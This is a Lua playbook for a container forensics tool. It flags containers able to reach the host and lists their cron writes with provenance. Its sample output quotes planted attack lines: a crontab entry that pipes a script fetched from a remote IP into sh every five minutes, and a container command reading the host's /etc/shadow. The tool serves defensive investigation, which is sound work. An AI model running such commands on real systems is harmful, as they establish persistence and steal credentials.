-- Playbook: the containers that could reach the host, and what they
-- planted in cron (their own layer, the host through a bind, deletions,
-- log lines), each with where it was read.
local findings = require "whiteout.findings"
local report = require "whiteout.report"

local ARGS = {
  { name = "container", help = "only this container (id, prefix or name)" },
  { name = "containers", default = "reach", choices = { "reach", "all" },
    help = "reach: containers that could reach the host; all: also list "
      .. "the layer and log cron writes of every other container" },
  { name = "host", default = "all", choices = { "all", "lifetime" },
    help = "host cron files under a bind: all of them, each flagged "
      .. "in_lifetime (LIFE yes) when changed while the container lived, "
      .. "or only those (as persistence)" },
  { name = "slack", type = "number", default = "1",
    help = "seconds added on each side of a container's life, since file "
      .. "times are kept at a coarse clock" },
}


-- The writes of one container, host files filtered by args.host, those
-- in its lifetime first.
local function writes_of(root, c, args)
  local out = {}
  local slack = math.floor((tonumber(args.slack) or 1) * 1e9)
  for _, w in ipairs(findings.cron_writes(root, c, slack)) do
    if not (w.where == "host" and args.host == "lifetime"
            and not w.in_lifetime) then
      out[#out + 1] = w
    end
  end
  return report.order_writes(out)
end


local function run(ev, args, emit)
  local reached, no_host, all = 0, false, findings.containers(ev)
  for _, e in ipairs(all) do
    local rec = findings.reach_record(e.root, e.c)
    if findings.picked(e.c, args.container)
      and (rec or args.containers == "all") then
      if rec then emit(rec) end
      for _, w in ipairs(writes_of(e.root, e.c, args)) do emit(w) end
      reached = reached + (rec and 1 or 0)
      no_host = no_host or (rec ~= nil and e.root.host == nil)
    end
  end
  if no_host then findings.warn_no_host(ev) end
  if reached == 0 and not args.container then
    emit({ kind = "note", text = #all == 1 and "the only container could "
      .. "not reach the host" or ("none of the %d containers could reach "
      .. "the host"):format(#all), source = findings.label(ev) })
  end
end


return {
  description = [[
Finds the containers that could write to the host and lists their cron
writes with provenance. A container is selected when it binds the host's
/ or any host folder holding a cron place (/etc, /etc/cron.d, /var/spool,
/var/spool/cron, ...; read-only binds too, said so), runs privileged,
adds CAP_SYS_ADMIN (or ALL), has host devices, shares the host's pid
namespace, or mounts the Docker socket; each gets its reasons
(kind "reach"). For each, kind "cron-write" records come from: its own
rw layer (etc/crontab, etc/cron.d/*, etc/cron.{hourly,daily,weekly,
monthly}/*, etc/crontabs/*, var/spool/cron/**, etc/anacrontab, systemd
timers; where "layer"), the host's file system through each bind when the
evidence holds it (where "host", with host_path and the path the
container used, flagged in_lifetime when a time falls inside the
container's life), whiteouts in those places (where "deleted"; with a
host disk image, also names deleted from the host's cron folders, with
what their inodes still hold) and log lines that touch cron (where
"log"). Given only a data root, a "note" record and a warning say that
the host's files are not in the evidence.]],
  categories = { "safe", "investigation" },
  args = ARGS,
  usage = [[
whiteout run root-mounts-cron -e /mnt/host            # the host's root
whiteout run root-mounts-cron -e /mnt/host --arg host=lifetime
whiteout run root-mounts-cron -e host-disk.img        # no mount needed
whiteout run root-mounts-cron -e ./var-lib-docker     # data root only
whiteout run root-mounts-cron -e /mnt/host --format json]],
  sample = report.unwrap [[
$ whiteout run root-mounts-cron -e build/sample-host
intruder (55819102b216) exited, created 2026-12-01 09:14:05.123Z
  reach: binds the host's / at /host (read-write); privileged; adds capability \
SYS_ADMIN
  command: sh -c 'echo planted > /host/etc/cron.d/sample'
  WHERE  PATH                     FROM                INUM      SIZE  TIME     \
                 LIFE  SHA256
  host   /host/etc/cron.d/sample  /etc/cron.d/sample  11054525  8     2026-12-0\
1 09:14:09.700Z  yes   60f97c7b5bf55c5f
  host   /host/etc/crontab        /etc/crontab        11054524  65    2026-11-2\
0 08:00:00.000Z  no    1873427947ceb99a
  layer  /etc/crontabs/root       73f5bdf65a49        11059329  53    2026-12-0\
1 09:14:09.000Z  yes   fe249d9366ad2fd1
  --- /host/etc/cron.d/sample  sha256 60f97c7b5bf55c5f186c5d1c79c8e3b6929c83bf2\
766434df9f1e1b9069db73a
    planted
  --- /host/etc/crontab  sha256 1873427947ceb99a9821bbf415a7a8ac8f65667f155e579\
0e92bb77e8533ef77
    SHELL=/bin/sh
    17 * * * * root cd / && run-parts /etc/cron.hourly
  --- /etc/crontabs/root  sha256 fe249d9366ad2fd17469ddfdb580e5e84ffb5cf564f777\
f29157da31fc018df7
    */5 * * * * wget -q -O- http://203.0.113.7/x.sh | sh

etc-reader (736ed6a1b647) exited, created 2026-12-01 09:13:00.000Z
  reach: binds host /etc at /host-etc (read-only), reaching /etc/crontab /etc/a\
nacrontab /etc/cron.d and 7 more cron places
  command: cat /host-etc/shadow
  WHERE  PATH                     FROM                INUM      SIZE  TIME     \
                 LIFE  SHA256
  host   /host-etc/cron.d/sample  /etc/cron.d/sample  11054525  8     2026-12-0\
1 09:14:09.700Z  no    60f97c7b5bf55c5f
  host   /host-etc/crontab        /etc/crontab        11054524  65    2026-11-2\
0 08:00:00.000Z  no    1873427947ceb99a
  --- /host-etc/cron.d/sample  sha256 60f97c7b5bf55c5f186c5d1c79c8e3b6929c83bf2\
766434df9f1e1b9069db73a
    planted
  --- /host-etc/crontab  sha256 1873427947ceb99a9821bbf415a7a8ac8f65667f155e579\
0e92bb77e8533ef77
    SHELL=/bin/sh
    17 * * * * root cd / && run-parts /etc/cron.hourly
]],
  applies = function(ev) return #ev.roots > 0 end,
  run = run,
  text = function(recs, write) report.cron_text(recs, write) end,
}
